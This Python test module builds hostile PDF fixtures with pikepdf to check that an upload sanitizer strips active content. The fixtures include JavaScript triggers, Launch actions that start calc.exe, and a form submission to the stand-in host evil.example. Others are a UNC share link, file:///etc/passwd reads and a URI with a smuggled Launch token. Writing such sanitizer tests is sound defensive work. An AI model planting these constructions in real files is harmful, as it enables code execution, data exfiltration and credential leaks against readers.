"""PDFs that want to act: scripts, programs, forms to send, media, and what travels along with a file."""

from typing import Any

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.publishing.uploads import good
from tests.publishing.uploads.hostile.making import SECRET, annotated, case, field_of, first, script


@case(finding="scripts-removed")
def a_script_on_opening() -> Pdf:
    pdf = good.blank()
    pdf.Root.OpenAction = script()
    return pdf


@case(finding="scripts-removed")
def a_script_by_name() -> Pdf:
    pdf = good.blank()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("go"), script()])))
    return pdf


@case(finding="scripts-removed")
def a_script_in_a_stream() -> Pdf:
    pdf = good.blank()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_indirect(Stream(pdf, b"app.alert('SECRET')")))
    return pdf


@case(finding="scripts-removed")
def a_script_when_a_page_opens() -> Pdf:
    pdf = good.blank()
    first(pdf).AA = Dictionary(O=script(), C=script())
    return pdf


@case(finding="scripts-removed")
def a_script_when_the_file_closes() -> Pdf:
    pdf = good.blank()
    pdf.Root.AA = Dictionary(WC=script())
    return pdf


@case(finding="scripts-removed")
def a_script_under_a_link() -> Pdf:
    return annotated(Subtype=Name.Link, A=script())


@case(finding="links-removed")
def a_script_as_an_address() -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert('SECRET')")))


@case(finding="links-removed")
def a_file_as_an_address() -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))


@case(finding="links-removed")
def an_address_with_a_line_end() -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/\n/Launch (x)")))


@case(finding="scripts-removed")
def a_script_behind_a_good_address() -> Pdf:
    action = Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=Array([script()]))
    return annotated(Subtype=Name.Link, A=action)


@case(finding="scripts-removed")
def a_script_in_a_bookmark() -> Pdf:
    pdf = good.blank()
    entry = pdf.make_indirect(Dictionary(Title=String("Go"), A=script()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=entry, Last=entry, Count=1))
    return pdf


@case(finding="scripts-removed")
def a_script_in_a_field() -> Pdf:
    pdf = field_of(good.blank())
    pdf.Root.AcroForm.Fields[0].AA = Dictionary(K=script(), V=script())
    return pdf


def acting(kind: str, **entries: Any) -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name("/" + kind), **entries))


@case(finding="actions-removed")
def a_program_to_start() -> Pdf:
    return acting("Launch", F=String("calc.exe"), Win=Dictionary(F=String("calc.exe")))


@case(finding="actions-removed")
def a_program_to_start_on_opening() -> Pdf:
    pdf = good.blank()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe")))
    return pdf


@case(finding="actions-removed")
def a_form_to_send() -> Pdf:
    return acting("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))


@case(finding="actions-removed")
def a_file_to_import() -> Pdf:
    return acting("ImportData", F=String("/etc/passwd"))


@case(finding="links-removed")
def a_page_of_another_file() -> Pdf:
    return acting("GoToR", F=String("\\\\evil.example\\share"), D=Array([0, Name.Fit]))


@case(finding="actions-removed")
def a_page_of_an_attached_file() -> Pdf:
    return acting("GoToE", T=Dictionary(R=Name.C, N=String("x")))


@case(finding="actions-removed")
def a_menu_command() -> Pdf:
    return acting("Named", N=Name.Print)


@case(finding="actions-removed")
def a_rendition() -> Pdf:
    return acting("Rendition", OP=0, JS=String("SECRET"))


def attached(pdf: Pdf) -> Dictionary:
    held = pdf.make_indirect(Stream(pdf, SECRET.encode(), Type=Name.EmbeddedFile))
    return Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=held))


@case(finding="files-removed")
def an_attached_file() -> Pdf:
    pdf = good.blank()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), attached(pdf)])))
    pdf.Root.AF = Array([attached(pdf)])
    return pdf


@case(finding="files-removed")
def a_file_pinned_to_a_page() -> Pdf:
    pdf = annotated(Subtype=Name.FileAttachment)
    first(pdf).Annots[0].FS = attached(pdf)
    return pdf


@case(refused="portfolio")
def a_portfolio() -> Pdf:
    pdf = good.blank()
    pdf.Root.Collection = Dictionary(View=Name.D)
    return pdf


@case(finding="forms-removed")
def a_form() -> Pdf:
    return field_of(good.blank())


@case(finding="forms-removed")
def a_form_in_xml() -> Pdf:
    pdf = good.blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(Stream(pdf, b"<xdp>SECRET</xdp>")))
    return pdf


@case(refused="its own program makes")
def a_form_that_makes_its_pages() -> Pdf:
    pdf = good.blank()
    pdf.Root.NeedsRendering = True
    return pdf


@case(finding="media-removed")
def a_film() -> Pdf:
    return annotated(Subtype=Name.Movie, Movie=Dictionary(F=String("x.avi")))


@case(finding="media-removed")
def a_sound() -> Pdf:
    return annotated(Subtype=Name.Sound)


@case(finding="media-removed")
def rich_media() -> Pdf:
    return annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())


@case(finding="media-removed")
def a_model() -> Pdf:
    pdf = annotated(Subtype=Name("/3D"))
    first(pdf).Annots[0]["/3DD"] = pdf.make_indirect(Stream(pdf, b"SECRET", Type=Name("/3D")))
    return pdf


@case(finding="comments-removed")
def a_comment() -> Pdf:
    return annotated(Subtype=Name.Text, Contents=String(SECRET))


@case(finding="redaction-not-applied")
def a_redaction_that_was_never_made() -> Pdf:
    return annotated(Subtype=Name.Redact, OverlayText=String("x"))


@case(finding="metadata-removed")
def notes_about_itself() -> Pdf:
    pdf = good.blank()
    pdf.docinfo["/Author"] = String(SECRET)
    pdf.Root.Metadata = pdf.make_indirect(Stream(pdf, SECRET.encode(), Type=Name.Metadata, Subtype=Name.XML))
    first(pdf).PieceInfo = Dictionary(X=Dictionary(Private=String(SECRET)))
    first(pdf).Thumb = pdf.make_indirect(Stream(pdf, SECRET.encode()))
    first(pdf).Metadata = pdf.Root.Metadata
    return pdf
